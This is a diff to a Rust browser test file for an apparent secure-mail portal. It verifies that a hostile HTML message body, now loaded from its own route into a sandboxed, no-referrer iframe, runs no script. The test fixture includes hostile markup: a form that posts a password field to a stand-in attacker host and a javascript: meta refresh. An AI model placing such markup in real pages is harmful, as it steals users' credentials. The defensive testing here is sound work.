@@ -3,7 +3,7 @@
 mod common;
 
 use common::*;
-use sealmail_api::recipient::{Body, MessageView};
+use sealmail_api::recipient::{BodyView, MessageView};
 use sealmail_api::{ErrorCode, Protection};
 use wasm_bindgen::JsCast;
 use wasm_bindgen_test::*;
@@ -137,17 +137,58 @@ const HOSTILE: &str = r#"<p>Hello</p>
 <form action="https://evil.example/steal"><input name="pw"></form>
 <meta http-equiv="refresh" content="0;url=javascript:parent.postMessage('refresh ran','*')">"#;
 
+/// A `blob:` URL of `html` as a document, standing in for the body route
+/// (the test runner's server does not serve it).
+fn document_url(html: &str) -> String {
+    let parts = js_sys::Array::of1(&html.into());
+    let options = web_sys::BlobPropertyBag::new();
+    options.set_type("text/html");
+    let blob = web_sys::Blob::new_with_str_sequence_and_options(&parts, &options).unwrap();
+    web_sys::Url::create_object_url_with_blob(&blob).unwrap()
+}
+
+#[wasm_bindgen_test]
+async fn an_html_body_is_framed_from_its_own_route() {
+    let mut message = message_view();
+    message.body = BodyView {
+        text: Some("the text part".into()),
+        html: true,
+    };
+    let (_api, _page) = reading(message, "en");
+    let frame = find("body-html").await;
+    assert_eq!(frame.tag_name(), "IFRAME");
+    assert_eq!(
+        frame.get_attribute("src").as_deref(),
+        Some("/api/v1/links/tok-123/body")
+    );
+    assert!(frame.get_attribute("srcdoc").is_none());
+    assert_eq!(
+        frame.get_attribute("sandbox").as_deref(),
+        Some("allow-popups allow-popups-to-escape-sandbox")
+    );
+    assert_eq!(
+        frame.get_attribute("referrerpolicy").as_deref(),
+        Some("no-referrer")
+    );
+    assert_eq!(frame.get_attribute("title").as_deref(), Some("Message"));
+    assert!(
+        testid("body-text").is_none(),
+        "the HTML is shown, not the text"
+    );
+}
+
 #[wasm_bindgen_test]
 async fn a_hostile_html_body_renders_inert() {
     let trap = ScriptTrap::set();
     let loads = FrameLoads::watch();
+    // The same document the body route would serve, minus its CSP header: the
+    // frame's sandbox alone must keep it inert.
+    let hostile = document_url(&HOSTILE.replace("alert(", "void("));
 
-    // First, show the trap works: the same markup in a plain frame runs (minus
-    // its alerts: a real dialog would stall the browser under test).
+    // First, show the trap works: the same document in a plain frame runs
+    // (minus its alerts: a real dialog would stall the browser under test).
     let control = document().create_element("iframe").unwrap();
-    control
-        .set_attribute("srcdoc", &HOSTILE.replace("alert(", "void("))
-        .unwrap();
+    control.set_attribute("src", &hostile).unwrap();
     document().body().unwrap().append_child(&control).unwrap();
     until("the control frame's script to report", || {
         !trap.messages.lock().unwrap().is_empty()
@@ -160,12 +201,19 @@ async fn a_hostile_html_body_renders_inert() {
     *trap.alerts.lock().unwrap() = 0;
 
     let mut message = message_view();
-    message.body = Body {
+    message.body = BodyView {
         text: None,
-        html: Some(HOSTILE.into()),
+        html: true,
     };
-    let (_api, _page) = reading(message, "en");
+    let mut info = link_info();
+    info.session_open = true;
+    let api = FakeApi::new()
+        .link(vec![Ok(info)])
+        .message(vec![Ok(message)])
+        .body_url(&hostile);
+    let _page = mount_flow(&api, Some("en"));
     let frame: web_sys::HtmlIFrameElement = find("body-html").await.unchecked_into();
+    assert_eq!(frame.get_attribute("src"), Some(hostile.clone()));
     until("the message frame to load", || loads.loaded() >= 2).await;
     // Messages posted during the load are queued as tasks: give them one more turn.
     sleep(50).await;
@@ -185,25 +233,15 @@ async fn a_hostile_html_body_renders_inert() {
         frame.content_document().is_none(),
         "the body's document is cross-origin to the portal"
     );
-    let srcdoc = frame.get_attribute("srcdoc").unwrap();
-    let policy = srcdoc.find("Content-Security-Policy").unwrap();
-    assert!(
-        policy < srcdoc.find("<body>").unwrap(),
-        "the policy precedes the body"
-    );
-    assert!(
-        srcdoc.contains("default-src 'none'; img-src data:"),
-        "remote images are blocked"
-    );
     assert_eq!(
         frame.get_attribute("referrerpolicy").as_deref(),
         Some("no-referrer")
     );
-    assert_eq!(frame.get_attribute("title").as_deref(), Some("Message"));
     assert!(
         query("#js").is_none(),
         "the body's links stay inside the frame"
     );
+    web_sys::Url::revoke_object_url(&hostile).unwrap();
 }
 
 #[wasm_bindgen_test]
